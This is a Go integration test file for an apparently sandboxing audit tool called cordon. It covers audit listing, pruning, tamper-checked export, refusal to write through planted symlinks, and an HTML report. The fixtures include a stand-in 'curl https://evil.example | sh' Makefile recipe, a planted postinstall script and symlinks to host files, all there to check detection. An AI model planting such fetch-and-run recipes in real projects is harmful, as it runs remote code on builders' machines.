package integration

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cordonhq/cordon/audit"
	"github.com/cordonhq/cordon/internal/testutil"
)

// in returns the world with its commands run in dir, another workspace.
func (w *world) in(dir string) *world {
	w.t.Helper()
	mustMkdir(w.t, dir)
	o := *w
	o.ws = dir
	return &o
}

func TestAuditLastIsThisWorkspaces(t *testing.T) {
	w := newWorld(t)
	other := w.in(filepath.Join(filepath.Dir(w.ws), "other"))
	if r := w.sh("true"); r.code != 0 {
		t.Fatalf("run in ws: %v", r)
	}
	if r := other.sh("true"); r.code != 0 {
		t.Fatalf("run in other: %v", r)
	}
	runs, err := audit.List(w.auditRoot())
	if err != nil || len(runs) != 2 {
		t.Fatalf("runs %+v, %v", runs, err)
	}
	newest, older := runs[0].ID, runs[1].ID // other's, then ws's
	for _, sub := range []string{"show", "verify"} {
		if r := w.cordon("", "audit", sub, "last"); r.code != 0 || !strings.Contains(r.stdout, older) {
			t.Errorf("audit %s last in ws: want %s: %v", sub, older, r)
		}
	}
	if r := w.cordon("", "audit", "verify", "last", "--all"); r.code != 0 || !strings.Contains(r.stdout, newest) {
		t.Errorf("audit verify last --all: want %s: %v", newest, r)
	}
	if r := other.cordon("", "audit", "verify", "last"); r.code != 0 || !strings.Contains(r.stdout, newest) {
		t.Errorf("audit verify last in other: want %s: %v", newest, r)
	}
	none := w.in(filepath.Join(filepath.Dir(w.ws), "none"))
	r := none.cordon("", "audit", "report", "-o", "-", "last")
	if r.code == 0 || !strings.Contains(r.stderr, "--all") || !strings.Contains(r.stderr, "no run of workspace") {
		t.Errorf("last with no run here must fail naming --all: %v", r)
	}
}

func TestAuditPruneKeepsLiveRuns(t *testing.T) {
	w := newWorld(t)
	live := w.startLongRun()
	defer func() { live.Process.Kill(); live.Wait() }()
	other := t.TempDir() // the live run holds w.ws: one run per workspace
	for range 2 {
		if r := w.shIn(other, "true"); r.code != 0 {
			t.Fatalf("run: %v", r)
		}
	}
	runs, _ := audit.List(w.auditRoot())
	if len(runs) != 3 || runs[2].Sealed {
		t.Fatalf("want two sealed runs and the live one last: %+v", runs)
	}
	if r := w.cordon("", "audit", "prune"); r.code != 2 || !strings.Contains(r.stderr, "--keep") {
		t.Errorf("prune without a rule must be a usage error: %v", r)
	}
	if r := w.cordon("", "audit", "ls"); r.code != 0 || !strings.Contains(r.stderr, "keeping all runs") {
		t.Errorf("audit ls must state the retention: %v", r)
	}
	// The live run is the newest of its workspace (no other run can start there while
	// it lives), so --keep never reaches it; --older-than does, and keeps it.
	r := w.cordon("", "audit", "prune", "--older-than", "1ms")
	if r.code != 0 || !strings.Contains(r.stdout, "removed "+runs[0].ID) || !strings.Contains(r.stdout, "removed "+runs[1].ID) || !strings.Contains(r.stdout, "kept "+runs[2].ID+": unsealed") {
		t.Fatalf("prune --older-than 1ms: want %s and %s removed, the live %s kept: %v", runs[0].ID, runs[1].ID, runs[2].ID, r)
	}
	after, _ := audit.List(w.auditRoot())
	if len(after) != 1 || after[0].ID != runs[2].ID {
		t.Errorf("after prune: %+v", after)
	}
	log, err := os.ReadFile(filepath.Join(w.auditRoot(), audit.PruneFile))
	if err != nil || strings.Count(string(log), "\n") != 2 || !strings.Contains(string(log), `"run":"`+runs[1].ID+`"`) {
		t.Errorf("%s: %q, %v", audit.PruneFile, log, err)
	}
}

func TestAuditExport(t *testing.T) {
	w := newWorld(t)
	if r := w.sh("echo hi > made.txt"); r.code != 0 {
		t.Fatalf("run: %v", r)
	}
	runs, _ := audit.List(w.auditRoot())
	if len(runs) != 1 {
		t.Fatalf("runs: %+v", runs)
	}
	logPath := filepath.Join(w.auditRoot(), runs[0].ID, audit.EventsFile)
	orig, _ := os.ReadFile(logPath)
	if r := w.cordon("", "audit", "export", "last", "--format", "jsonl"); r.code != 0 || r.stdout != string(orig) {
		t.Errorf("export jsonl must be the log as is: %v", r)
	}
	r := w.cordon("", "audit", "export", "--format", "ocsf", runs[0].ID)
	if r.code != 0 {
		t.Fatalf("export ocsf: %v", r)
	}
	for _, want := range []string{`"class_uid":6002`, `"class_uid":1007`, `"class_uid":1001`, `"path":"made.txt"`, `"correlation_uid":"` + runs[0].ID + `"`} {
		assertContains(t, "export ocsf", r.stdout, want)
	}
	if r := w.cordon("", "audit", "export", "last"); r.code != 2 {
		t.Errorf("export without --format must be a usage error: %v", r)
	}
	tampered := strings.Replace(string(orig), `"made.txt"`, `"mado.txt"`, 1)
	if tampered == string(orig) {
		t.Fatal("made.txt not in the log")
	}
	if err := os.WriteFile(logPath, []byte(tampered), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := w.cordon("", "audit", "export", "last", "--format", "jsonl"); r.code != 1 || r.stdout != "" || !strings.Contains(r.stderr, "--force") {
		t.Errorf("an edited log must be refused, naming --force: %v", r)
	}
	if r := w.cordon("", "audit", "export", "last", "--format", "jsonl", "--force"); r.code != 0 || r.stdout != tampered || !strings.Contains(r.stderr, "NOT INTACT") {
		t.Errorf("--force exports it and says so: %v", r)
	}
}

// TestAuditOutputRefusesALinkTheSandboxPlanted: a sandbox links the name a reviewer will
// write the export or the report to (in the workspace) to a host file; `-o NAME` refuses
// to write through the link, and the host file is untouched (red team). Writing over the
// log being read is refused too.
func TestAuditOutputRefusesALinkTheSandboxPlanted(t *testing.T) {
	w := newWorld(t)
	victim := filepath.Join(w.home, "hostrc")
	mustWrite(t, victim, "host settings\n")
	if r := w.sh("ln -s " + victim + " export.jsonl && ln -s " + victim + " report.html"); r.code != 0 {
		t.Fatalf("run: %v", r)
	}
	for _, args := range [][]string{
		{"audit", "export", "--format", "ocsf", "-o", "export.jsonl", "last"},
		{"audit", "report", "-o", "report.html", "last"},
	} {
		r := w.cordon("", args...)
		if r.code == 0 {
			t.Errorf("%v wrote through the sandbox's link: %v", args, r)
		}
		assertContains(t, "stderr", r.stderr, "not a regular file")
	}
	if data, _ := os.ReadFile(victim); string(data) != "host settings\n" {
		t.Fatalf("the host file the link names was written: %q", data)
	}
	// A planted directory link on the way: out/ names a host directory.
	hostDir := filepath.Join(w.home, "hostdir")
	mustMkdir(t, hostDir)
	if r := w.sh("ln -s " + hostDir + " out"); r.code != 0 {
		t.Fatalf("run: %v", r)
	}
	for _, args := range [][]string{
		{"audit", "export", "--format", "ocsf", "-o", "out/export.jsonl", "--all", "last"},
		{"audit", "report", "-o", filepath.Join(w.ws, "out", "report.html"), "--all", "last"},
		{"audit", "follow", "-o", "out/follow.jsonl", "--all", "last"},
	} {
		r := w.cordon("", args...)
		if r.code == 0 {
			t.Errorf("%v wrote through the sandbox's directory link: %v", args, r)
		}
		assertContains(t, "stderr", r.stderr, "is not followed out of it")
	}
	if ents, _ := os.ReadDir(hostDir); len(ents) != 0 {
		t.Fatalf("a file was created through the planted directory link: %v", ents)
	}
	if r := w.cordon("", "audit", "report", "-o", "ok.html", "--all", "last"); r.code != 0 {
		t.Errorf("a plain -o in the workspace: %v", r)
	} else if _, err := os.Stat(filepath.Join(w.ws, "ok.html")); err != nil {
		t.Errorf("a plain -o in the workspace wrote nothing: %v", err)
	}
	runs, _ := audit.List(w.auditRoot())
	if len(runs) != 2 {
		t.Fatalf("runs: %+v", runs)
	}
	logPath := filepath.Join(w.auditRoot(), runs[0].ID, audit.EventsFile)
	before, _ := os.ReadFile(logPath)
	if r := w.cordon("", "audit", "export", "--format", "jsonl", "-o", logPath, runs[0].ID); r.code == 0 {
		t.Errorf("export over the log it reads: %v", r)
	}
	if after, _ := os.ReadFile(logPath); string(after) != string(before) {
		t.Fatal("export -o the run's own log truncated it")
	}
}

// TestAuditReportInChromium renders a real run's HTML report in headless Chromium: the
// page loads with no external assets, shows the summary, the command, its diff and the
// denied egress, and the screenshot is not empty.
func TestAuditReportInChromium(t *testing.T) {
	w := newWorld(t)
	chromium, err := exec.LookPath("chromium")
	testutil.Require(t, err == nil, "chromium is needed to look at the report (apt-get install chromium)")
	up := newUpstream(t, false, "127.0.0.2:0")
	w.egressContract(up.port)
	mustWrite(t, filepath.Join(w.ws, "main.go"), "package main\n")
	r := w.sh("echo 'func main() {}' >> main.go; curl -s http://evil.example/ -o /dev/null; echo done")
	if r.code != 0 {
		t.Fatal(r)
	}
	report := filepath.Join(t.TempDir(), "report.html")
	if r := w.cordon("", "audit", "report", "-o", report, "last"); r.code != 0 {
		t.Fatalf("audit report: %v", r)
	}
	html, _ := os.ReadFile(report)
	for _, banned := range []string{"<script src", "<link ", "http://", "https://"} {
		if strings.Contains(strings.ReplaceAll(string(html), "http://evil.example", ""), banned) {
			t.Errorf("the report refers to an external asset (%q)", banned)
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	profile := t.TempDir()
	shot := filepath.Join(t.TempDir(), "shot.png")
	flags := []string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--no-first-run", "--user-data-dir=" + profile}
	if out, err := exec.CommandContext(ctx, chromium, append(flags, "--window-size=1200,1600", "--screenshot="+shot, "file://"+report)...).CombinedOutput(); err != nil {
		t.Fatalf("chromium screenshot: %v\n%s", err, out)
	}
	if st, err := os.Stat(shot); err != nil || st.Size() < 10000 {
		t.Fatalf("screenshot empty or missing: %v %v", st, err)
	}
	dom, err := exec.CommandContext(ctx, chromium, append(flags, "--dump-dom", "file://"+report)...).Output()
	if err != nil {
		t.Fatalf("chromium dump-dom: %v", err)
	}
	for _, want := range []string{"<h1>cordon run", "intact and sealed", "<h2>Timeline</h2>", "main.go", "+func main() {}", "<h2>Egress</h2>", "DENY", "evil.example"} {
		assertContains(t, "rendered report", string(dom), want)
	}
}

// TestAuditFlagsRunsLaterFiles: a sandboxed command that plants a Makefile recipe and a
// package.json install script among ordinary edits; audit show, show --json and the
// HTML report list those two files first, marked, and not the ordinary ones.
func TestAuditFlagsRunsLaterFiles(t *testing.T) {
	w := newWorld(t)
	mustWrite(t, filepath.Join(w.ws, "Makefile"), "test:\n\tgo test ./...\n")
	mustWrite(t, filepath.Join(w.ws, "package.json"), "{\n  \"name\": \"app\",\n  \"version\": \"1.0.0\"\n}\n")
	mustWrite(t, filepath.Join(w.ws, "README.md"), "hello\n")
	r := w.sh(`printf 'all:\n\tcurl https://evil.example | sh\n' >> Makefile && ` +
		`printf '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": {"postinstall": "node x.js"}\n}\n' > package.json && ` +
		`echo more >> README.md`)
	if r.code != 0 {
		t.Fatalf("command failed: %v", r)
	}

	show := w.cordon("", "audit", "show", "last")
	if show.code != 0 {
		t.Fatalf("audit show: %v", show)
	}
	block, rest, ok := strings.Cut(show.stdout, "\n[")
	if !ok || !strings.Contains(block, "RUNS LATER") {
		t.Fatalf("audit show has no runs-later block before the first command:\n%s", show.stdout)
	}
	for _, want := range []string{"M Makefile  build:", "M package.json  package-scripts: package.json scripts"} {
		assertContains(t, "runs-later block", block, want)
	}
	if strings.Contains(block, "README.md") {
		t.Errorf("README.md is flagged:\n%s", block)
	}
	assertContains(t, "command's files", rest, "M Makefile +2 -0  [runs later: build]")

	js := w.cordon("", "audit", "show", "--json", "last")
	var out struct {
		RunsLater []struct{ Path, Category string } `json:"runs_later"`
	}
	if err := json.Unmarshal([]byte(js.stdout), &out); err != nil {
		t.Fatalf("show --json: %v\n%s", err, js.stdout)
	}
	var got []string
	for _, f := range out.RunsLater {
		got = append(got, f.Path+" "+f.Category)
	}
	if want := "Makefile build, package.json package-scripts"; strings.Join(got, ", ") != want {
		t.Errorf("runs_later: got %q; want %q", strings.Join(got, ", "), want)
	}

	report := filepath.Join(t.TempDir(), "report.html")
	if rep := w.cordon("", "audit", "report", "-o", report, "last"); rep.code != 0 {
		t.Fatalf("audit report: %v", rep)
	}
	page, err := os.ReadFile(report)
	if err != nil {
		t.Fatal(err)
	}
	html := string(page)
	later, timeline := strings.Index(html, "Runs later — review first"), strings.Index(html, "<h2>Timeline</h2>")
	if later < 0 || timeline < 0 || later > timeline {
		t.Fatalf("the report's runs-later section (at %d) is not before the timeline (at %d)", later, timeline)
	}
	section := html[later:timeline]
	for _, want := range []string{"<code>Makefile</code>", "<code>package.json</code>", "Makefile, run by make", "package.json scripts"} {
		assertContains(t, "report's runs-later section", section, want)
	}
	if strings.Contains(section, "<code>README.md</code>") {
		t.Error("the report flags README.md")
	}
}
